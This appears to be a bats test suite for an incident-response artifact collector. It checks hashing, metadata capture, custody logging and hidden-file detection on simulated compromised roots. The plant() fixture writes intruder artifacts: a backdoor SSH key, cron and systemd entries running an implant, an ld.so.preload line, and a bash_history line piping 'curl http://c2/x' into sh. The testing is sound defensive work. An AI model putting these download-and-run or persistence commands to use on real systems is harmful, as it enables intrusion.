#!/usr/bin/env bats
# ir-collect on planted roots built by each test: the catalogue's
# artifacts (a cron entry, a backdoor key in a home that only the root's
# etc/passwd names, an ld.so.preload line) copied with equal SHA-256 and
# their metadata; a symlink kept as one; a FIFO skipped without hanging;
# an unreadable file (badfs EIO) failed with its errno; --list, --since,
# --min-free, --deadline; bad catalogues; the default catalogue on this
# host; --raw against a bind mount that hides a cron file.

load common
load badfs

CATALOG=$BATS_TEST_DIRNAME/../../catalog

setup() {
	irkit_setup
}

teardown() {
	badfs_cleanup
	local m
	for m in $(cat "$BATS_TEST_TMPDIR/mounts" 2>/dev/null | tac); do
		umount "$m" 2>/dev/null || umount -l "$m" 2>/dev/null
	done
	for m in $(cat "$BATS_TEST_TMPDIR/loops" 2>/dev/null); do
		losetup -d "$m" 2>/dev/null
	done
	true
}

# collect STATUS OUT ARG...: run ir-collect (records on stdout to OUT).
collect() {
	local want=$1 out=$2
	shift 2
	run_tool "$want" "$out" ir-collect "$@"
}

sha() {
	sha256sum "$1" | cut -d' ' -f1
}

# has FILE FILTER [JQ-ARG...]: some record of FILE passes FILTER (jq 1.6's
# -e looks at the last line's result only: slurp instead).
has() {
	local f=$1 q=$2
	shift 2
	jq -s -e "$@" "any(.[]; $q)" "$f" >/dev/null
}

# rec FILE PATH: the file record of PATH.
rec() {
	jq -c --arg p "$2" 'select(.type == "file" and .path == $p)' "$1"
}

# outcome FILE NAME FIELD
outcome() {
	jq -r --arg a "$2" "select(.type == \"outcome\" and .artifact == \$a) | .$3" "$1"
}

# A planted root: what an intruder leaves for access and persistence.
plant() {
	local r=$1
	mkdir -p "$r"/etc/cron.d "$r"/etc/systemd/system/multi-user.target.wants \
	    "$r"/srv/alice/.ssh "$r"/home/bob "$r"/root "$r"/tmp/.x
	cat >"$r/etc/passwd" <<-'PW'
	root:x:0:0:root:/root:/bin/bash
	alice:x:1000:1000:Alice:/srv/alice:/bin/bash
	this line is damaged
	nobody:x:65534:65534:nobody:/nonexistent:/usr/sbin/nologin
	PW
	printf '* * * * * root /tmp/.x/implant >/dev/null 2>&1\n' >"$r/etc/cron.d/evil"
	chmod 0640 "$r/etc/cron.d/evil"
	touch -d '2021-03-04 05:06:07.123456789' "$r/etc/cron.d/evil"
	printf 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIBackdoorBackdoorBackdoorBackdoorBack evil@c2\n' \
	    >"$r/srv/alice/.ssh/authorized_keys"
	printf '/usr/lib/x86_64-linux-gnu/libsystem.so.1\n' >"$r/etc/ld.so.preload"
	printf '[Service]\nExecStart=/tmp/.x/implant\n' >"$r/etc/systemd/system/evil.service"
	printf '[Journal]\nStorage=none\n' >"$r/etc/systemd/journald.conf"
	ln -s /etc/systemd/system/evil.service \
	    "$r/etc/systemd/system/multi-user.target.wants/evil.service"
	printf 'curl http://c2/x | sh\n' >"$r/home/bob/.bash_history"
	printf 'implant' >"$r/tmp/.x/implant"
	printf 'shell' >"$r/tmp/.x/suid"
	chmod 4755 "$r/tmp/.x/suid"
	mkfifo "$r/tmp/.x/pipe"
	printf 'raw name' >"$r/tmp/.x/bad$(printf '\377')name"
}

hex_decode_stdin() {
	local h
	h=$(cat)
	hex_decode "$h"
}

@test "planted --root: cron entry, backdoor key in a passwd home, ld.so.preload line; copies hash equal; metadata kept" {
	plant root
	python3 -c 'import os, sys; os.setxattr(sys.argv[1], "user.note", b"planted\xff")' \
	    root/etc/ld.so.preload 2>/dev/null || true
	collect 0 /dev/null --root root -o res --no-nice
	assert_jsonl res/collect.jsonl
	local p f
	for p in /etc/cron.d/evil /srv/alice/.ssh/authorized_keys /etc/ld.so.preload \
	    /home/bob/.bash_history /etc/systemd/system/evil.service /tmp/.x/implant; do
		f=$(rec res/collect.jsonl "$p")
		[ -n "$f" ] || fail "no record of $p"
		assert_eq "$(jq -r .sha256 <<<"$f")" "$(sha "root$p")" "sha256 of $p"
		assert_eq "$(jq -r .output <<<"$f")" "collect$p" "output of $p"
		assert_eq "$(sha "res/collect$p")" "$(sha "root$p")" "copy of $p"
		assert_eq "$(jq -r .size <<<"$f")" "$(stat -c %s "root$p")" "size of $p"
		assert_eq "$(jq -r .changed_while_copied <<<"$f")" false "$p changed"
	done
	f=$(rec res/collect.jsonl /etc/cron.d/evil)
	assert_eq "$(jq -r .artifact <<<"$f")" cron
	assert_eq "$(jq -r .mode <<<"$f")" 100640
	assert_eq "$(jq -r .mtime <<<"$f")" 2021-03-04T05:06:07.123456789Z
	assert_eq "$(jq -r .ctime <<<"$f")" "$(iso_of "$(stat -c %z root/etc/cron.d/evil)")"
	assert_eq "$(jq -r .uid <<<"$f")" "$(stat -c %u root/etc/cron.d/evil)"
	[ "$(stat -c %W root/etc/cron.d/evil)" = 0 ] ||
	    assert_eq "$(jq -r .crtime <<<"$f")" "$(iso_of "$(stat -c %w root/etc/cron.d/evil)")"
	# The copy keeps the mode and the times.
	assert_eq "$(stat -c %a res/collect/etc/cron.d/evil)" 640
	assert_eq "$(stat -c %y res/collect/etc/cron.d/evil)" "$(stat -c %y root/etc/cron.d/evil)"
	# A home only etc/passwd names; the damaged line is reported.
	assert_eq "$(rec res/collect.jsonl /srv/alice/.ssh/authorized_keys | jq -r .artifact)" ssh-authorized-keys
	grep -q 'evil@c2' res/collect/srv/alice/.ssh/authorized_keys
	has res/collect.jsonl '.type == "problem" and ((.error // "") | test("malformed line.*line 3"))' ||
	    fail "no problem record for the damaged passwd line"
	# The symlink is kept as a symlink with its target.
	f=$(rec res/collect.jsonl /etc/systemd/system/multi-user.target.wants/evil.service)
	assert_eq "$(jq -r .kind <<<"$f")" lnk
	assert_eq "$(jq -r .link <<<"$f")" /etc/systemd/system/evil.service
	[ -L res/collect/etc/systemd/system/multi-user.target.wants/evil.service ] ||
	    fail "the copy is not a symlink"
	assert_eq "$(readlink res/collect/etc/systemd/system/multi-user.target.wants/evil.service)" \
	    /etc/systemd/system/evil.service
	# A set-user-ID file: recorded as it is, never copied set-user-ID.
	f=$(rec res/collect.jsonl /tmp/.x/suid)
	assert_eq "$(jq -r .mode <<<"$f")" 104755
	assert_eq "$(stat -c %a res/collect/tmp/.x/suid)" 755
	# The FIFO is recorded, not read.
	f=$(rec res/collect.jsonl /tmp/.x/pipe)
	assert_eq "$(jq -r .kind <<<"$f")" fifo
	jq -e '.skipped | test("fifo")' <<<"$f" >/dev/null || fail "fifo not skipped: $f"
	# An extended attribute, binary value in hex.
	if python3 -c 'import os, sys; os.getxattr(sys.argv[1], "user.note")' root/etc/ld.so.preload 2>/dev/null; then
		f=$(rec res/collect.jsonl /etc/ld.so.preload)
		assert_eq "$(jq -r '.xattrs[] | select(.name == "user.note") | .hex' <<<"$f")" \
		    "$(printf 'planted\377' | bytes_hex)"
	fi
	# A file two artifacts name is copied once and names both.
	f=$(rec res/collect.jsonl /etc/systemd/journald.conf)
	assert_eq "$(jq -c .artifacts <<<"$f")" '["log-config","systemd-config"]'
	assert_eq "$(jq -s '[.[] | select(.path == "/etc/systemd/journald.conf")] | length' res/collect.jsonl)" 1
	assert_eq "$(outcome res/collect.jsonl log-config files)" 1
	assert_eq "$(outcome res/collect.jsonl systemd-config files)" 1
	# A name that is not UTF-8: kept byte for byte in path_hex and copied.
	f=$(jq -c --arg h "$(printf '/tmp/.x/bad\377name' | bytes_hex)" \
	    'select(.type == "file" and .path_hex == $h)' res/collect.jsonl)
	[ -n "$f" ] || fail "no record with the raw name"
	assert_eq "$(jq -r .sha256 <<<"$f")" "$(sha "root/tmp/.x/bad$(printf '\377')name")"
	cmp "root/tmp/.x/bad$(printf '\377')name" "res/$(jq -r .output_hex <<<"$f" | hex_decode_stdin)"
	# Every catalogue entry has exactly one outcome.
	assert_eq "$(jq -s '[.[] | select(.type == "outcome")] | length' res/collect.jsonl)" \
	    "$(cat "$CATALOG"/*.json | jq -s '[.[].artifacts[]] | length')"
	assert_eq "$(outcome res/collect.jsonl cron status)" collected
	assert_eq "$(outcome res/collect.jsonl ld-preload status)" collected
	assert_eq "$(outcome res/collect.jsonl ssh-authorized-keys status)" collected
	assert_eq "$(outcome res/collect.jsonl rpm-db status)" empty
	assert_eq "$(outcome res/collect.jsonl rpm-db files)" 0
}

@test "one walk: /etc is opened once for all its artifacts; a tree no path can match is never entered" {
	command -v strace >/dev/null || skip "strace is not installed"
	plant root
	mkdir -p root/opt/big/deep
	printf 'x\n' >root/opt/big/deep/file
	local rc=0
	# LeakSanitizer cannot work under a tracer.
	ASAN_OPTIONS="${ASAN_OPTIONS:+$ASAN_OPTIONS:}detect_leaks=0" \
	    strace -f -qq -e trace=openat,open -o trace "$IRKIT_BIN/ir-collect" \
	    --root root -o res --no-nice >/dev/null 2>stderr || rc=$?
	assert_eq "$rc" 0
	# The walk reads with O_NOATIME (the copies' side does not).
	[ "$(grep -c '"etc", O_RDONLY.*O_NOATIME.*O_DIRECTORY' trace)" -eq 1 ] ||
	    { grep '"etc"' trace >&2; fail "etc opened other than once"; }
	[ "$(jq -s '[.[] | select(.type == "outcome" and .files > 0) | .artifact] | length' res/collect.jsonl)" -ge 5 ]
	refute grep -q '"big"\|"deep"' trace
}

@test "a separately mounted /var/log is followed" {
	need_root
	plant root
	mkdir -p root/var/log
	mount -t tmpfs tmpfs root/var/log || skip "cannot mount tmpfs"
	echo "$PWD/root/var/log" >>"$BATS_TEST_TMPDIR/mounts"
	printf 'Accepted publickey for root from 203.0.113.9\n' >root/var/log/auth.log
	printf 'old\n' | gzip >root/var/log/auth.log.2.gz
	collect 0 /dev/null --root root -o res --no-nice
	assert_eq "$(outcome res/collect.jsonl auth-logs files)" 2
	assert_eq "$(rec res/collect.jsonl /var/log/auth.log.2.gz | jq -r .sha256)" \
	    "$(sha root/var/log/auth.log.2.gz)"
	cmp root/var/log/auth.log res/collect/var/log/auth.log
}

@test "nothing written outside the output, never over an earlier result: a second run goes to collect.2" {
	plant root
	collect 0 /dev/null --root root -o res --no-nice
	# The same root, named with a trailing '/' and through a symlink.
	ln -s root rootlink
	collect 0 /dev/null --root rootlink/ -o res --no-nice
	assert_eq "$(rec res/collect.2.jsonl /etc/cron.d/evil | jq -r .source)" "$PWD/root"
	[ -f res/collect.2.jsonl ] && [ -d res/collect.2 ] || fail "no collect.2"
	cmp res/collect/etc/cron.d/evil res/collect.2/etc/cron.d/evil
	assert_eq "$(rec res/collect.2.jsonl /etc/cron.d/evil | jq -r .output)" collect.2/etc/cron.d/evil
}

@test "--case: records in the case, the custody chain logs them" {
	plant root
	collect 0 /dev/null --root root --case case --no-nice
	local recs
	recs=$(ls case/ir-collect-*.jsonl)
	[ -n "$(rec "$recs" /etc/cron.d/evil)" ] || fail "no record in the case"
	[ -f case/collect/etc/cron.d/evil ] || fail "no copy in the case"
	has case/custody.jsonl '.tool == "ir-collect" and any(.outputs[]; .path == $o)' \
	    --arg o "${recs#case/}" || fail "custody lacks $recs: $(cat case/custody.jsonl)"
}

@test "--case: every regular copy is logged with the SHA-256 taken as it was copied; ir-pack refuses a copy altered after" {
	plant root
	collect 0 /dev/null --root root --case case --no-nice
	local recs p
	recs=$(ls case/ir-collect-*.jsonl)
	(cd case && find collect -type f | LC_ALL=C sort) >copies
	[ "$(wc -l <copies)" -ge 8 ] || fail "too few copies: $(cat copies)"
	jq -r 'select(.tool == "ir-collect") | .outputs[].path' case/custody.jsonl |
	    LC_ALL=C sort >logged
	{ echo "${recs#case/}"; cat copies; } | LC_ALL=C sort >want
	diff want logged >&2 || fail "custody outputs are not the records and the regular copies"
	grep -qx collect/etc/passwd logged || fail "collect/etc/passwd not logged"
	# A symlink copied as a symlink, a FIFO: no outputs.
	refute grep -q -e multi-user.target.wants -e pipe logged
	# In a case a name that is not UTF-8 is copied as %XX: the log names it.
	grep -qx 'collect/tmp/.x/bad%FFname' logged || fail "the raw name is not logged"
	assert_eq "$(jq -r --arg h "$(printf '/tmp/.x/bad\377name' | bytes_hex)" \
	    'select(.type == "file" and .path_hex == $h) | .output' "$recs")" \
	    'collect/tmp/.x/bad%FFname'
	while read -r p; do
		assert_eq "$(jq -r --arg p "$p" '.outputs[] | select(.path == $p) | .sha256' \
		    case/custody.jsonl)" "$(sha "case/$p")" "custody sha256 of $p"
		assert_eq "$(jq -r --arg p "$p" 'select(.type == "file" and .output == $p) | .sha256' \
		    "$recs")" "$(sha "case/$p")" "record sha256 of $p"
	done <copies
	# As collected: sealed and verified.
	run_tool 0 /dev/null ir-pack case -o p.tar.gz
	run_tool 0 /dev/null ir-verify p.tar.gz
	# One byte added to a copy afterwards: ir-pack will not seal it.
	printf 'x' >>case/collect/etc/passwd
	run_tool 2 /dev/null ir-pack case -o p2.tar.gz
	assert_stderr "case/collect/etc/passwd was altered after the custody log recorded it"
	[ ! -e p2.tar.gz ] || fail "a package of the altered case"
}

@test "the output directory inside the root is never collected" {
	plant root
	collect 0 /dev/null --root root -o root/tmp/res --no-nice
	has root/tmp/res/collect.jsonl '.type == "file" and .path == "/tmp/.x/implant"'
	refute has root/tmp/res/collect.jsonl '.type == "file" and (.path | startswith("/tmp/res"))'
	has root/tmp/res/collect.jsonl '.type == "problem" and .path == "/tmp/res"'
}

@test "an artifact that cannot be read (EIO) is failed with its errno, not missing; exit 3" {
	badfs_require
	need_root
	head -c 65536 /dev/urandom >back
	mkdir -p root/var
	badfs_mount back root/var/bad 8192-8704
	cat >cat.json <<-'EOF'
	{ "category": "test", "artifacts": [
	  { "name": "bad-disk", "description": "a file with a bad sector", "paths": ["/var/bad/disk"] },
	  { "name": "absent", "description": "nothing there", "paths": ["/var/none/*"] } ] }
	EOF
	collect 3 /dev/null --catalog cat.json --root root -o res --no-nice
	assert_eq "$(outcome res/collect.jsonl bad-disk status)" failed
	assert_eq "$(outcome res/collect.jsonl bad-disk errno)" 5
	outcome res/collect.jsonl bad-disk error | grep -q 'Input/output error'
	assert_eq "$(outcome res/collect.jsonl absent status)" empty
	local f
	f=$(rec res/collect.jsonl /var/bad/disk)
	assert_eq "$(jq -r .errno <<<"$f")" 5
	jq -e '.error | test("read error at byte")' <<<"$f" >/dev/null
}

# slow_disk: root/var/bad/disk, 16 MiB served by badfs 300 ms per read
# request (at least five seconds to copy, whatever the request size).
slow_disk() {
	badfs_require
	need_root
	head -c 16777216 /dev/urandom >back
	mkdir -p root/var root/etc/cron.d
	printf 'x\n' >root/etc/cron.d/job
	badfs_mount back root/var/bad --slow-ms=300
	cat >cat.json <<-'EOF'
	{ "category": "test", "artifacts": [
	  { "name": "cron", "description": "a small file first", "paths": ["/etc/cron.d/*"] },
	  { "name": "slow", "description": "a slow file", "paths": ["/var/bad/disk"] },
	  { "name": "after", "description": "never reached", "paths": ["/var/zz/*"] } ] }
	EOF
}

@test "SIGINT stops cleanly: valid records, every entry has an outcome, exit 3" {
	slow_disk
	local rc=0 pid
	"$IRKIT_BIN/ir-collect" --catalog cat.json --root root -o res --no-nice 2>stderr &
	pid=$!
	sleep 2
	kill -INT "$pid"
	wait "$pid" || rc=$?
	check_sanitizer stderr
	assert_eq "$rc" 3
	grep -q 'interrupted' stderr
	assert_jsonl res/collect.jsonl
	assert_eq "$(outcome res/collect.jsonl cron status)" collected
	assert_eq "$(outcome res/collect.jsonl slow status)" truncated
	assert_eq "$(outcome res/collect.jsonl slow reason)" interrupted
	assert_eq "$(outcome res/collect.jsonl after status)" skipped
	local f
	f=$(rec res/collect.jsonl /var/bad/disk)
	assert_eq "$(jq -r .interrupted <<<"$f")" true
	# What was copied is what the records say, hash and all.
	assert_eq "$(jq -r .copied <<<"$f")" "$(stat -c %s res/collect/var/bad/disk)"
	assert_eq "$(jq -r .sha256 <<<"$f")" "$(sha res/collect/var/bad/disk)"
	[ "$(jq -r .copied <<<"$f")" -lt 16777216 ] || fail "not interrupted"
}

@test "it runs at nice 10 and best-effort I/O priority 7 unless --no-nice" {
	slow_disk
	command -v ionice >/dev/null || skip "ionice is not installed"
	local pid rc=0
	"$IRKIT_BIN/ir-collect" --catalog cat.json --root root -o res 2>stderr &
	pid=$!
	sleep 1
	assert_eq "$(ps -o ni= -p "$pid" | tr -d ' ')" 10
	assert_eq "$(ionice -p "$pid")" "best-effort: prio 7"
	kill -INT "$pid"
	wait "$pid" || rc=$?
	assert_eq "$rc" 3
	"$IRKIT_BIN/ir-collect" --catalog cat.json --root root -o res2 --no-nice 2>stderr &
	pid=$!
	sleep 1
	assert_eq "$(ps -o ni= -p "$pid" | tr -d ' ')" "$(ps -o ni= -p $$ | tr -d ' ')"
	kill -INT "$pid"
	wait "$pid" || true
}

@test "--deadline and --artifact-deadline stop a slow copy with a clear outcome" {
	slow_disk
	collect 3 /dev/null --catalog cat.json --root root -o all --no-nice --deadline 2s
	assert_eq "$(outcome all/collect.jsonl slow status)" truncated
	outcome all/collect.jsonl slow reason | grep -q 'deadline'
	assert_eq "$(outcome all/collect.jsonl after status)" skipped
	collect 3 /dev/null --catalog cat.json --root root -o one --no-nice --artifact-deadline 2s
	assert_eq "$(outcome one/collect.jsonl slow status)" truncated
	outcome one/collect.jsonl slow reason | grep -q 'artifact-deadline'
	assert_eq "$(outcome one/collect.jsonl cron status)" collected
	[ "$(rec one/collect.jsonl /var/bad/disk | jq -r .copied)" -lt 16777216 ] || fail "not cut"
}

@test "a directory that cannot be listed fails the artifacts under it (EACCES), and an unreadable file too" {
	need_root
	plant root
	chmod 000 root/etc/cron.d
	chmod 000 root/etc/ld.so.preload
	mkdir res
	chown nobody res
	chmod 755 "$BATS_TEST_TMPDIR"
	local rc=0
	as_nobody "$IRKIT_BIN/ir-collect" --root root -o res --no-nice >/dev/null 2>stderr || rc=$?
	check_sanitizer stderr
	assert_eq "$rc" 3
	assert_eq "$(outcome res/collect.jsonl cron status)" failed
	assert_eq "$(outcome res/collect.jsonl cron errno)" 13
	outcome res/collect.jsonl cron error | grep -q '^/etc/cron.d: .*Permission denied'
	assert_eq "$(outcome res/collect.jsonl ld-preload status)" failed
	assert_eq "$(outcome res/collect.jsonl ld-preload errno)" 13
	assert_eq "$(rec res/collect.jsonl /etc/ld.so.preload | jq -r .errno)" 13
	# The others are unaffected.
	assert_eq "$(outcome res/collect.jsonl ssh-authorized-keys status)" collected
}

@test "a file that grows while it is copied is flagged changed_while_copied" {
	mkdir -p root/var/log
	head -c 134217728 /dev/zero >root/var/log/syslog
	cat >cat.json <<-'EOF'
	{ "category": "t", "artifacts": [ { "name": "log", "description": "d",
	  "paths": ["/var/log/syslog", "/var/log/quiet"], "max_size": "1G" } ] }
	EOF
	printf 'still\n' >root/var/log/quiet
	# A writer that appends all the time the copy runs.
	( while [ ! -e stop ]; do printf 'line\n' >>root/var/log/syslog; done ) &
	local writer=$!
	sleep 0.2
	collect 0 /dev/null --catalog cat.json --root root -o res --no-nice
	touch stop
	wait "$writer"
	assert_eq "$(rec res/collect.jsonl /var/log/syslog | jq -r .changed_while_copied)" true
	assert_eq "$(rec res/collect.jsonl /var/log/quiet | jq -r .changed_while_copied)" false
	assert_eq "$(outcome res/collect.jsonl log changed_while_copied)" 1
	# The hash is that of the bytes copied, which the copy holds.
	assert_eq "$(rec res/collect.jsonl /var/log/syslog | jq -r .sha256)" \
	    "$(sha res/collect/var/log/syslog)"
}

@test "nothing is copied from /proc or /sys: recorded, skipped with the reason" {
	cat >cat.json <<-'EOF'
	{ "category": "t", "artifacts": [
	  { "name": "proc", "description": "d", "paths": ["/proc/version", "/sys/kernel/uevent_seqnum"] } ] }
	EOF
	collect 0 /dev/null --catalog cat.json -o res --no-nice
	assert_eq "$(outcome res/collect.jsonl proc status)" skipped
	outcome res/collect.jsonl proc reason | grep -q 'pseudo file system'
	assert_eq "$(rec res/collect.jsonl /proc/version | jq -r .skipped)" \
	    "on a pseudo file system: content is not data"
	[ ! -e /sys/kernel/uevent_seqnum ] ||
	    assert_eq "$(rec res/collect.jsonl /sys/kernel/uevent_seqnum | jq -r .skipped)" \
	    "on a pseudo file system: content is not data"
	[ ! -e res/collect/proc ] && [ ! -e res/collect/sys ] || fail "copied from /proc or /sys"
}

@test "a FIFO in a collected directory does not hang" {
	mkdir -p root/tmp
	mkfifo root/tmp/fifo
	cat >cat.json <<-'EOF'
	{ "category": "t", "artifacts": [ { "name": "t", "description": "d", "paths": ["/tmp/*"] } ] }
	EOF
	local rc=0
	timeout 20 "$IRKIT_BIN/ir-collect" --catalog cat.json --root root -o res --no-nice \
	    2>stderr || rc=$?
	[ "$rc" -ne 124 ] || fail "ir-collect hung on a FIFO"
	assert_eq "$rc" 0
	assert_eq "$(outcome res/collect.jsonl t status)" skipped
	outcome res/collect.jsonl t reason | grep -q 'special files'
}

@test "--list prints every artifact of the catalogue" {
	collect 0 list --list
	assert_jsonl list
	assert_eq "$(jq -s length list)" "$(cat "$CATALOG"/*.json | jq -s '[.[].artifacts[]] | length')"
	assert_eq "$(jq -r 'select(.artifact == "ld-preload") | .paths[0]' list)" /etc/ld.so.preload
	assert_eq "$(jq -r 'select(.artifact == "ssh-authorized-keys") | .category' list)" ssh
	assert_eq "$(jq -r 'select(.artifact == "ssh-authorized-keys") | .paths[0]' list)" '{home}/.ssh/authorized_keys'
}

@test "--since: older files are left out and said so; newer ones are taken" {
	plant root
	collect 0 /dev/null --root root -o old --since 2099-01-01 --no-nice
	has old/collect.jsonl '.type == "outcome"'
	refute has old/collect.jsonl '.type == "file" and .kind == "reg"'
	assert_eq "$(outcome old/collect.jsonl cron status)" skipped
	outcome old/collect.jsonl cron reason | grep -q -- --since
	collect 0 /dev/null --root root -o new --since 2020-01-01T00:00:00Z --no-nice
	assert_eq "$(outcome new/collect.jsonl cron status)" collected
	collect 2 /dev/null --root root -o x --since yesterday
	assert_stderr "bad --since"
}

@test "--min-free: the collection stops cleanly with a clear outcome; exit 3" {
	plant root
	collect 3 /dev/null --root root -o res --min-free 1000000T --no-nice
	assert_stderr "min-free"
	assert_jsonl res/collect.jsonl
	assert_eq "$(outcome res/collect.jsonl cron status)" skipped
	outcome res/collect.jsonl cron reason | grep -q 'min-free'
	refute has res/collect.jsonl '.type == "file" and .kind == "reg"'
}

@test "--artifact-deadline and --deadline are parsed; an expired deadline stops with outcomes" {
	plant root
	collect 2 /dev/null --root root -o x --deadline soon
	assert_stderr "bad --deadline"
	collect 0 /dev/null --root root -o res --deadline 1h --artifact-deadline 10m --no-nice
	assert_eq "$(outcome res/collect.jsonl cron status)" collected
}

@test "a bad catalogue: one clear line naming the file and the line or the artifact, exit 2" {
	printf '{ "category": "x",\n  "artifacts": [\n    { "name": "a", }\n] }\n' >syntax.json
	collect 2 /dev/null --catalog syntax.json -o res
	assert_stderr "syntax.json: line 3 column"
	printf '{ "category": "x", "artifacts": [ { "name": "a", "description": "d", "path": ["/x"] } ] }' >key.json
	collect 2 /dev/null --catalog key.json --list
	assert_stderr 'key.json: artifact 1 ("a"): unknown key "path"'
	printf '{ "category": "x", "artifacts": [ { "name": "a", "description": "d", "paths": ["etc/x"] } ] }' >rel.json
	collect 2 /dev/null --catalog rel.json --list
	assert_stderr "must start with '/', '{home}/' or '~/'"
	printf '{ "category": "x", "artifacts": [ { "name": "a", "description": "d", "paths": ["/x/../y"] } ] }' >dots.json
	collect 2 /dev/null --catalog dots.json --list
	assert_stderr "'..'"
	mkdir dup
	printf '{ "category": "x", "artifacts": [ { "name": "a", "description": "d", "paths": ["/x"] } ] }' >dup/1.json
	cp dup/1.json dup/2.json
	collect 2 /dev/null --catalog dup --list
	assert_stderr 'dup/2.json: artifact 1 ("a"): the name is taken already'
	collect 2 /dev/null --catalog nonexistent.json --list
	assert_stderr "nonexistent.json"
	[ ! -e res ] || fail "output made for a bad catalogue"
}

@test "the default catalogue on this host: every entry gets an outcome" {
	# /tmp may hold gigabytes: a short per-artifact deadline keeps it brief.
	local rc=0
	"$IRKIT_BIN/ir-collect" -o res --artifact-deadline 3s >/dev/null 2>stderr || rc=$?
	check_sanitizer stderr
	[ "$rc" -eq 0 ] || [ "$rc" -eq 3 ] || { cat stderr >&2; fail "exit $rc"; }
	assert_jsonl res/collect.jsonl
	assert_eq "$(jq -s '[.[] | select(.type == "outcome")] | length' res/collect.jsonl)" \
	    "$(cat "$CATALOG"/*.json | jq -s '[.[].artifacts[]] | length')"
	refute has res/collect.jsonl '.type == "outcome" and (.status | IN("collected", "empty", "skipped", "failed", "truncated") | not)'
	assert_eq "$(outcome res/collect.jsonl passwd status)" collected
	assert_eq "$(rec res/collect.jsonl /etc/passwd | jq -r .sha256)" "$(sha /etc/passwd)"
	# Never a copy of our own output.
	has res/collect.jsonl '.type == "file"'
	refute has res/collect.jsonl '.type == "file" and (.path | startswith($d))' --arg d "$PWD/res"
}

# raw_image: an ext4 image holding etc/cron.d/evil, loop-mounted at mnt,
# with an empty directory bind-mounted over mnt/etc/cron.d.
raw_image() {
	need_root
	command -v mkfs.ext4 >/dev/null || skip "mkfs.ext4 is not installed"
	[ -c /dev/loop-control ] || skip "no loop device support"
	mkdir -p tree/etc/cron.d tree/etc/ssh tree/root mnt empty
	printf '* * * * * root /dev/shm/.k\n' >tree/etc/cron.d/evil
	printf 'ok\n' >tree/etc/hostname
	mkfs.ext4 -q -d tree img 16M || fail "mkfs.ext4"
	local loop
	loop=$(losetup -f --show img) || skip "losetup cannot make a loop device"
	echo "$loop" >>"$BATS_TEST_TMPDIR/loops"
	mount "$loop" mnt || skip "cannot mount ext4"
	echo "$PWD/mnt" >>"$BATS_TEST_TMPDIR/mounts"
	RAW_LOOP=$loop
}

@test "--raw: a cron file hidden under a bind mount is reported from the block device; exit 1" {
	raw_image
	# Nothing hidden yet: no finding, exit 0.
	collect 0 /dev/null --root mnt --raw -o clean --no-nice
	refute has clean/collect.jsonl '.type == "finding"'
	assert_eq "$(outcome clean/collect.jsonl cron files)" 1
	mount --bind empty mnt/etc/cron.d
	echo "$PWD/mnt/etc/cron.d" >>"$BATS_TEST_TMPDIR/mounts"
	[ -z "$(ls -A mnt/etc/cron.d)" ] || fail "the bind mount hides nothing"
	collect 1 /dev/null --root mnt --raw -o res --no-nice
	local f
	f=$(jq -c 'select(.type == "finding" and .path == "/etc/cron.d/evil")' res/collect.jsonl)
	[ -n "$f" ] || { cat res/collect.jsonl >&2; fail "evil not reported"; }
	assert_eq "$(jq -r .reason <<<"$f")" hidden-name
	assert_eq "$(jq -r .fstype <<<"$f")" ext4
	assert_eq "$(jq -r .raw_path <<<"$f")" /etc/cron.d
	assert_eq "$(jq -r .under_mount <<<"$f")" "$PWD/mnt/etc/cron.d"
	assert_eq "$(jq -r .live_stat <<<"$f")" absent
	# The inode is the one debugfs gives for the name.
	assert_eq "$(jq -r .inode <<<"$f")" \
	    "$(debugfs -R 'stat /etc/cron.d/evil' img 2>/dev/null | sed -n 's/^Inode: \([0-9]*\).*/\1/p')"
	assert_stderr "/etc/cron.d/evil is on disk"
	# The mounted view, which is what was collected, had no cron file.
	assert_eq "$(outcome res/collect.jsonl cron status)" empty
	# Names that are visible are never findings.
	refute has res/collect.jsonl '.type == "finding" and .path == "/etc/hostname"'
}

@test "--raw: a directory on a file system without a block device is a problem record, not a crash" {
	need_root
	mkdir -p root/dev/shm
	mount -t tmpfs tmpfs root/dev/shm || skip "cannot mount tmpfs"
	echo "$PWD/root/dev/shm" >>"$BATS_TEST_TMPDIR/mounts"
	touch root/dev/shm/x
	cat >cat.json <<-'EOF'
	{ "category": "t", "artifacts": [ { "name": "shm", "description": "d", "paths": ["/dev/shm/*"] } ] }
	EOF
	collect 0 /dev/null --catalog cat.json --root root --raw -o res --no-nice
	has res/collect.jsonl '.type == "problem" and .path == "/dev/shm" and (.error | test("tmpfs file system without a block device"))'
	assert_eq "$(outcome res/collect.jsonl shm status)" collected
}

@test "a tree in /tmp too deep for a package: a problem record, not gone into; the rest collected; the case packs and verifies" {
	plant root
	# 400 levels of 200-byte names: 80 KB of path, past what a package
	# member may be named.
	python3 -c '
import os
os.chdir("root/tmp")
for i in range(400):
    os.mkdir("d" * 200)
    os.chdir("d" * 200)
open("leaf", "w").write("deep\n")'
	local rc=0
	"$IRKIT_BIN/ir-collect" --root root --case case --no-nice >/dev/null 2>stderr || rc=$?
	check_sanitizer stderr
	[ "$rc" -eq 3 ] || fail "exit $rc: $(cat stderr)"
	local recs
	recs=$(ls case/ir-collect-*.jsonl)
	has "$recs" '.type == "problem" and (.error | startswith("a path this long cannot be packed")) and (.path | length) > 60000' ||
	    fail "no problem record for the deep path"
	has "$recs" '.type == "outcome" and .artifact == "tmp-dirs" and .status == "truncated" and .truncated >= 1' ||
	    fail "tmp-dirs: $(jq -c 'select(.artifact == "tmp-dirs")' "$recs")"
	has "$recs" '.type == "file" and .path == "/etc/passwd"' || fail "/etc/passwd not collected"
	[ -z "$(find case/collect/tmp -name leaf)" ] || fail "the leaf was copied"
	# The terminal gets the start of the path, not 80 KB of it.
	[ "$(wc -c <stderr)" -lt 4000 ] || fail "stderr: $(wc -c <stderr) bytes"
	run_tool 0 /dev/null ir-pack case -o p.tar.gz
	run_tool 0 /dev/null ir-verify p.tar.gz
}
